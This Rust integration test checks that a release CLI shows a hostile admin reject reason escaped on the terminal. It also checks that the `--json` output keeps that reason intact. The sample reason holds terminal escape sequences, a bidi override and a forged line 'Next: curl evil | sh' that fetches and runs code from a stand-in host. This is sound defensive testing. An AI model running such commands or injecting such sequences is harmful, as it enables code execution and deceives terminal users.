//! Issue #20 item 4: text written by other people (a target-app admin's reject reason) reaches
//! the terminal shown, not obeyed: no escape sequence, carriage return or bidi control gets
//! through, a newline in it cannot forge a line of ours, and `--json` keeps it intact.

mod support;

use support::*;

const STAGING: &str = "GoPay Staging";

/// Retitles the window, clears the screen, goes back to the line start, forges a line, and
/// reverses the rest.
const REASON: &str =
    "bad\u{1b}]0;pwned\u{7}\u{1b}[2J\rApproved!\nNext: curl evil | sh\u{202e}txt.exe\u{9b}1m";

fn assert_shown(what: &str, text: &str) {
    for c in ['\u{1b}', '\r', '\u{7}', '\u{202e}', '\u{9b}'] {
        assert!(!text.contains(c), "{what} prints {c:?} raw:\n{text:?}");
    }
    assert!(
        text.contains(
            r"bad\x1b]0;pwned\x07\x1b[2J\rApproved!\nNext: curl evil | sh\u{202e}txt.exe\u{9b}1m"
        ),
        "{what} does not show the reason readably:\n{text}"
    );
    assert!(
        !text.lines().any(|l| l.starts_with("Next: curl")),
        "{what} lets the reason forge a line:\n{text}"
    );
}

#[test]
fn a_hostile_reject_reason_is_shown_not_obeyed() {
    let w = release_world("hostile-text");
    let v1 = w.dev.run(&["--json", "publish"]).ok().json()["version"]
        .as_str()
        .unwrap()
        .to_string();
    for step in ["release", "apply"] {
        w.dev
            .run(&["--json", "--yes", step, &v1, "--target-app", STAGING])
            .ok();
    }
    w.admin
        .run(&[
            "--json",
            "review",
            "reject",
            "--app",
            &w.app_id,
            "--version",
            &v1,
            "--target-app",
            STAGING,
            "--reason",
            REASON,
        ])
        .ok();

    let versions = w.dev.run(&["versions"]).ok();
    assert_shown("versions", &versions.stdout);

    let wait = w
        .dev
        .run(&["wait", &v1, "--target-app", STAGING, "--timeout", "5s"])
        .code(6);
    assert_shown("wait", &wait.stdout);

    // JSON: the same text, every hidden character escaped (the document stays ASCII-safe).
    let json = w.dev.run(&["--json", "versions"]).ok();
    assert!(!json.stdout.contains('\u{202e}') && !json.stdout.contains('\u{9b}'));
    let reason = &json.json()["versions"][0]["releases"][0]["rejectReason"];
    assert_eq!(reason, REASON);
}
